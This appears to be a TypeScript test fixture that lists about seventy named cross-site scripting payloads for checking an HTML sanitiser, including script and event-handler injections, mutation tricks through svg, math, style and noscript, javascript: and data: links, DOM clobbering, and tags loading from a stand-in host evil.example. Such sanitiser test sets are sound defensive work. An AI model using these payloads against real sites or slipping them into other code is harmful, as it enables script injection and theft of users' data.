/** Markup that has bypassed sanitisers, one technique each. `alert` runs if one is not removed. */
export const xssPayloads: Record<string, string> = {
  script: '<script>alert(1)</script>',
  'script in parts': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'script, unclosed': '<script>alert(1)',
  'script, never ended tag': '<script src=https://evil.example/x.js //',
  'script in a foreign case': '<ScRiPt >alert(1)</sCrIpT\n>',
  'image, handler': '<img src=x onerror=alert(1)>',
  'image, handler without spaces': '<img/src="/a.png"/onerror=alert(1)>',
  'image, broken attribute':
    '<img src="/a.png" alt="`><script>alert(1)</script>"onload="alert(1)">',
  'attribute that ends early': '<p title=""><script>alert(1)</script>">x</p>',
  'body handler': '<body onload=alert(1)><p onclick="alert(1)" onpointerenter=alert(1)>x</p>',
  'custom element': '<x-y onfocus=alert(1) tabindex=0 autofocus>x</x-y>',
  'svg script': '<svg><script>alert(1)</script></svg>',
  'svg handler': '<svg/onload=alert(1)>',
  'svg use': '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  'svg animation of a link':
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=9>x</text></a></svg>',
  'svg style mutation': '<svg><style><img src=x onerror=alert(1)></style></svg>',
  'svg title mutation': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'svg desc mutation': '<svg><desc><noscript></desc><img src=x onerror=alert(1)></noscript></svg>',
  'math mutation':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'math link': '<math href="javascript:alert(1)">x</math>',
  'form mutation':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'noscript mutation': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'textarea mutation': '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  'title mutation': '<title><img src="</title><img src=x onerror=alert(1)>"></title>',
  'xmp mutation': '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  'iframe mutation': '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  'noembed mutation': '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  'plaintext mutation': '<plaintext><p title="</plaintext><img src=x onerror=alert(1)>">',
  'select mutation': '<select><style></select><img src=x onerror=alert(1)></style>',
  'template mutation': '<template><style></template><img src=x onerror=alert(1)></style>',
  'table mutation': '<table><td><svg><style></table><img src=x onerror=alert(1)></style>',
  'comment that ends early': '<!--><img src=x onerror=alert(1)>-->',
  'comment with bang': '<!-- --!><img src=x onerror=alert(1)> -->',
  'nested comment': '<!--<img src="--><img src=x onerror=alert(1)>">',
  cdata: '<![CDATA[><img src=x onerror=alert(1)>]]>',
  'conditional comment': '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  'processing instruction': '<?xml version="1.0"?><?a ><img src=x onerror=alert(1)>?>',
  'escaped twice': '&lt;img src=x onerror=alert(1)&gt; &amp;lt;script&amp;gt;',
  'javascript address': '<a href="javascript:alert(1)">x</a>',
  'javascript address with entities': '<a href="&#106;avascript&colon;alert(1)">x</a>',
  'javascript address with controls': '<a href="\u0001java\tscr\nipt:alert(1)">x</a>',
  'javascript address in capitals': '<a href=" JaVaScRiPt:alert(1)">x</a>',
  'data address': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  'data picture': '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  'vbscript address': '<a href="vbscript:msgbox(1)">x</a>',
  'frame with javascript': '<iframe src="javascript:alert(1)"></iframe>',
  'frame with srcdoc': '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  object: '<object data="data:text/html,<script>alert(1)</script>"><p>x</p></object>',
  embed: '<embed src="https://evil.example/x.swf">',
  base: '<base href="https://evil.example/"><a href="/x">x</a>',
  'meta refresh': '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  'link to a stylesheet': '<link rel=stylesheet href=https://evil.example/x.css>',
  'style element': '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  'style attribute':
    '<p style="background:url(https://evil.example/x);position:fixed;inset:0">x</p>',
  'form and input':
    '<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button></form>',
  clobbering:
    '<a id=defaultView href="x:y">x</a><img name=getElementById src="/a.png"><p id=__proto__>x</p>',
  'picture from elsewhere':
    '<img src="https://evil.example/a.png"><img src="//evil.example/a.png"><img src="/\\evil.example/a.png"><img src="/\t/evil.example/a.png">',
  'picture set from elsewhere':
    '<img src="/a.png" srcset="https://evil.example/a.png 2x, /b.png 1x">',
  'picture element':
    '<picture><source srcset="https://evil.example/a.png"><img src="/a.png"></picture>',
  'video from elsewhere':
    '<video src="https://evil.example/a.mp4" poster="https://evil.example/p.png" autoplay onplay=alert(1)></video>',
  'audio from elsewhere':
    '<audio src=x onerror=alert(1)><source src="https://evil.example/a.mp3"></audio>',
  'old background':
    '<table background="https://evil.example/a.png"><td background="//evil.example/b">x</table>',
  'ping and download': '<a href="/x" ping="https://evil.example" download onclick=alert(1)>x</a>',
  'open in a new window': '<a href="https://evil.example" target="_blank">x</a>',
  'false region': '<div role="alertdialog" aria-label="Sign in" tabindex="0">x</div>',
  'false wrapper':
    '<div class="table-scroll" role="button" tabindex="5" onclick="alert(1)">x</div>',
  'null characters': '<scr\u0000ipt>alert(1)</scr\u0000ipt><img src=x o\u0000nerror=alert(1)>',
  'popover and dialog':
    '<div popover id=p>x</div><button popovertarget=p>x</button><dialog open>x</dialog>',
  details: '<details open ontoggle=alert(1)><summary>x</summary></details>',
  'unclosed tag': '<p>text <a href="/x" title="',
  'unclosed attribute': '<img src="/a.png" alt="x><p>later</p>',
  'stray ends': '</div></article></main></body></html><p>x</p>',
};
